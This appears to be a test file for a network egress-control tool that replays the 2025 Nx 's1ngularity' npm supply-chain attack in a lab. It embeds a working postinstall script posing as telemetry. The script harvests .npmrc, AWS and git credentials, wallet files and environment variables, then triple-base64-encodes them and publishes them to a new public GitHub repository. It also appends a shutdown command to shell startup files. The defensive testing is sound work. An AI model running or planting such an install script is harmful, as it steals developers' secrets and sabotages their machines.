// docs/incidents/s1ngularity.md
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import t from 'tap'
import { openLab, type Lab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { npmInstall, offer, project, registry } from './npm-install.ts'
import { itIsTold, replay, type Incident } from './replay.ts'

t.setTimeout(180_000)

const github = 'api.github.com'
const token = `ghp_${'telemetry'.repeat(4)}`

/** The install script, in the order of the real one; it says nothing and never fails. */
const telemetry = `const { appendFileSync, readFileSync } = require('node:fs')
const home = process.env.HOME
const read = path => {
  try {
    return readFileSync(home + '/' + path).toString('base64')
  } catch {}
}
const call = (method, path, body) =>
  fetch('https://${github}' + path, {
    method,
    body: JSON.stringify(body),
    headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN, 'user-agent': 'axios' },
    signal: AbortSignal.timeout(5000),
  }).catch(() => undefined)
const encode = text => Buffer.from(text).toString('base64')
const main = async () => {
  const found = {}
  for (const path of ['.npmrc', '.aws/credentials', '.git-credentials', 'wallet.dat']) found[path] = read(path)
  const inventory = JSON.stringify({ env: process.env, files: found })
  await call('POST', '/user/repos', { name: 's1ngularity-repository', private: false })
  await call('PUT', '/repos/victim/s1ngularity-repository/contents/results.b64', {
    message: 'Creation.',
    content: encode(encode(encode(inventory))),
  })
  for (const file of ['.bashrc', '.zshrc']) appendFileSync(home + '/' + file, 'sudo shutdown -h 0\\n')
}
main()
`

const packages = [
  {
    manifest: { name: 'nx', version: '21.5.0', main: 'index.js', scripts: { postinstall: 'node telemetry.js' } },
    files: [
      { path: 'index.js', content: 'module.exports = 1\n' },
      { path: 'telemetry.js', content: telemetry },
    ],
  },
]

/** What a policy has that lets the build's own release step talk to GitHub as it likes. */
const generous = ['allow:', `  - GET,HEAD ${registry}`, `  - ${github}`, 'canaries: true', ''].join('\n')
const narrow = [
  'allow:',
  `  - GET,HEAD ${registry}`,
  `  - GET https://${github}/repos/acme/**`,
  'canaries: true',
  '',
].join('\n')

function incidentIn(lab: Lab, policy: string): Incident<'install'> {
  const home = lab.file('home')
  rmSync(home, { recursive: true, force: true })
  mkdirSync(home)
  for (const file of ['.bashrc', '.zshrc']) writeFileSync(`${home}/${file}`, '')
  return {
    attacker: [],
    honest: [github],
    spoils: [token],
    policy,
    env: { HOME: home, GITHUB_TOKEN: token },
    steps: {
      install: `${project({ name: 'app', version: '1.0.0', dependencies: { nx: '^21.0.0' } })} && ${npmInstall}`,
    },
  }
}

async function written(lab: Lab): Promise<readonly string[]> {
  const requests = await lab.origins.requests(
    ({ host, method, complete }) => host === github && method !== 'GET' && complete,
  )
  return requests.map(({ method, path }) => `${method} ${path}`)
}

const made = 'POST /user/repos'
const stored = 'PUT /repos/victim/s1ngularity-repository/contents/results.b64'

t.test('Nx, 2025: an install script that publishes what it finds as a repository', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await offer(lab, packages)
  await lab.origins.script(github, '*', { status: 201, body: '{}' })
  const told = { host: github, layer: 'http', exe: /\/node$/, parent: /\/node$/ }

  await t.test('in audit it is seen, named and attributed', async t => {
    const run = await replay(lab, incidentIn(lab, narrow), 'audit')
    t.same(await written(lab), [made, stored], 'the attack works')
    itIsTold(t, run, { ...told, verdict: 'observe', reason: 'path', method: 'POST' })
    itIsTold(t, run, { ...told, verdict: 'observe', reason: 'denied-by-rule', method: 'PUT' })
    const canaries = run.findings.filter(({ kind }) => kind === 'canary')
    for (const subject of ['DEPLOY_GITHUB_TOKEN', 'PROD_AWS_SECRET_ACCESS_KEY']) {
      t.match(
        canaries.find(one => one.subject === subject),
        { host: github, note: /in the body of a PUT to api\.github\.com \(base64 three times\)/, process: /node/ },
        subject,
      )
    }
    // Base64 of the file, three times again: four in all, which is one more than is looked for.
    t.notOk(canaries.some(({ subject }) => subject === '~/.npmrc'))
  })
  await t.test('in block a policy that names its requests stops it before the repository is made', async t => {
    const run = await replay(lab, incidentIn(lab, narrow), 'block')
    t.same(await written(lab), [])
    itIsTold(t, run, { ...told, verdict: 'deny', reason: 'path', method: 'POST' })
    itIsTold(t, run, { ...told, verdict: 'deny', reason: 'path', method: 'PUT' })
    t.notOk(await lab.uplink.contains(token))
    t.equal(run.step('install').exitCode, 0, run.step('install').stderr)
  })
  await t.test('in block a policy that allows all of GitHub stops what it found, and then everything', async t => {
    const run = await replay(lab, incidentIn(lab, generous), 'block')
    t.same(await written(lab), [made], 'the repository is made, and stays empty')
    itIsTold(t, run, { ...told, verdict: 'deny', reason: 'denied-by-rule', method: 'PUT' })
    t.match(
      run.findings.find(({ kind }) => kind === 'canary'),
      { note: /no network any more/, process: /node/ },
    )
  })
  t.match(readFileSync(`${lab.file('home')}/.bashrc`, 'utf8'), 'shutdown', 'what it does to files, no gateway stops')
})
